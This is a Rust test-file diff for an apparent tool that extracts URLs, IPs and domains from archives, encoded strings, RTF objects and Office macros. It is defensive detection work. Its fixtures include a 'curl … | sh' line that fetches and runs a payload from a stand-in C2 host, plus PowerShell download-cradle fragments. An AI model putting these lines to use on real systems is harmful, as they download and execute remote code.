@@ -205,6 +205,115 @@ fn the_members_of_archives_and_the_streams_of_documents_are_looked_into() {
     assert_eq!(named(&pdf).urls.iter().map(ToString::to_string).collect::<Vec<_>>(), ["http://a.example.com/in-pdf"]);
 }
 
+/// A document as an archive of some format, with this inside.
+fn packed(format: &str, content: &[u8]) -> Vec<u8> {
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut header = tar::Header::new_gnu();
+    header.set_size(content.len() as u64);
+    header.set_cksum();
+    tar.append_data(&mut header, "a/script.sh", content).expect("added");
+    let tar = tar.into_inner().expect("finished");
+    match format {
+        "tar" => tar,
+        "tar.gz" => {
+            let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+            packer.write_all(&tar).expect("packed");
+            packer.finish().expect("packed")
+        }
+        "bz2" => {
+            let mut packer = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
+            packer.write_all(content).expect("packed");
+            packer.finish().expect("packed")
+        }
+        "xz" => {
+            let mut packer = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::default()).expect("a packer");
+            packer.write_all(content).expect("packed");
+            packer.finish().expect("packed")
+        }
+        _ => {
+            let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+            zip.start_file("a/script.sh", zip::write::SimpleFileOptions::default()).expect("begun");
+            zip.write_all(content).expect("written");
+            zip.finish().expect("finished").into_inner()
+        }
+    }
+}
+
+#[test]
+fn scripts_in_every_sort_of_archive_and_in_archives_of_those_are_looked_into() {
+    let script = b"#!/bin/sh\ncurl -s http://203.0.114.77/payload | sh # via c2.example.ru\n";
+    for format in ["zip", "tar", "tar.gz", "bz2", "xz"] {
+        let archive = packed(format, script);
+        for bytes in [packed("zip", &archive), archive] {
+            let found = named(&bytes);
+            let urls: Vec<_> = found.urls.iter().map(ToString::to_string).collect();
+            assert_eq!(urls, ["http://203.0.114.77/payload"], "{format}");
+            assert_eq!(found.ips.iter().map(ToString::to_string).collect::<Vec<_>>(), ["203.0.114.77"], "{format}");
+            let domains: Vec<_> = found.domains.iter().map(ToString::to_string).collect();
+            assert_eq!(domains, ["c2.example.ru"], "{format}");
+        }
+    }
+}
+
+#[test]
+fn urls_in_base64_and_in_hexadecimal_are_found_wherever_they_begin() {
+    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let base64 = |bytes: &[u8]| {
+        let group = |three: &[u8]| {
+            let bits =
+                three.iter().fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - three.len()));
+            (0..=three.len()).map(|nth| char::from(LETTERS[bits >> (18 - 6 * nth) & 63])).collect::<String>()
+        };
+        bytes.chunks(3).map(group).collect::<String>()
+    };
+    for before in ["", "x", "xy", "IEX ", "$u='", "downloadstring('"] {
+        for url in ["http://a.example.com/stage", "https://a.example.com/stage"] {
+            let text = format!("{before}{url}'");
+            for bytes in [text.clone().into_bytes(), wide(&text)] {
+                assert_eq!(urls(&format!("powershell -enc {}== ", base64(&bytes))), [url], "{text}");
+                assert_eq!(urls(&format!("x = \"{}\"", hex::encode(&bytes))), [url], "{text}");
+            }
+        }
+    }
+}
+
+#[test]
+fn the_objects_of_rtf_documents_are_looked_into() {
+    let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0];
+    object.extend(wide("https://a.example.com/template.hta"));
+    let digits: Vec<_> =
+        hex::encode(object).into_bytes().chunks(7).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
+    let rtf = format!(
+        "{{\\rtf1{{\\object\\objautlink{{\\*\\objdata {}}}}}{{\\field{{\\*\\fldinst HYPERLINK \"http://b.example.com/\"}}}}}}",
+        digits.join("\r\n")
+    );
+    let mut found = urls(&rtf);
+    found.sort();
+    assert_eq!(found, ["http://b.example.com/", "https://a.example.com/template.hta"]);
+}
+
+#[test]
+fn macros_of_office_documents_are_unpacked() {
+    // A module as MS-OVBA 2.4.1 packs it: letters as they are but for one copy of eight bytes.
+    let text = b"Attribute VB_Name = \"M\"\r\nu = \"http://a.example.com/macro.exe\"";
+    let mut chunk = Vec::new();
+    for eight in text.chunks(8) {
+        chunk.push(0);
+        chunk.extend_from_slice(eight);
+    }
+    let size = u16::try_from(chunk.len() - 1).expect("a small one") | 0xb000;
+    let mut module = vec![1];
+    module.extend(size.to_le_bytes());
+    module.extend(chunk);
+    assert!(memchr::memmem::find(&module, b"http://a.example.com").is_none(), "it does not stand there as it is");
+    for bytes in [module.clone(), packed("zip", &module)] {
+        assert_eq!(
+            named(&bytes).urls.iter().map(ToString::to_string).collect::<Vec<_>>(),
+            ["http://a.example.com/macro.exe"]
+        );
+    }
+}
+
 #[test]
 fn a_bomb_is_cut_and_said_so() {
     let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
@@ -219,6 +328,19 @@ proptest! {
     #[test]
     fn nothing_makes_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
         let _ = named(&bytes);
+    }
+
+    #[test]
+    fn nothing_behind_a_mark_of_something_hidden_makes_it_panic(
+        mark in 0..6_usize,
+        bytes in proptest::collection::vec(any::<u8>(), 0..400),
+        digits in "[0-9a-f \r\n]{0,60}",
+    ) {
+        let marks: [&[u8]; 6] = [
+            b"aHR0c", b"xh0dHA", b"68747470", b"{\\rtf1\\objdata ", b"\x01\xff\xbf\0Attribut", b"%PDF-1 obj ASCII85Decode FlateDecode stream\n",
+        ];
+        let _ = named([marks[mark], &bytes].concat());
+        let _ = named([marks[mark], digits.as_bytes()].concat());
     }
 
     #[test]
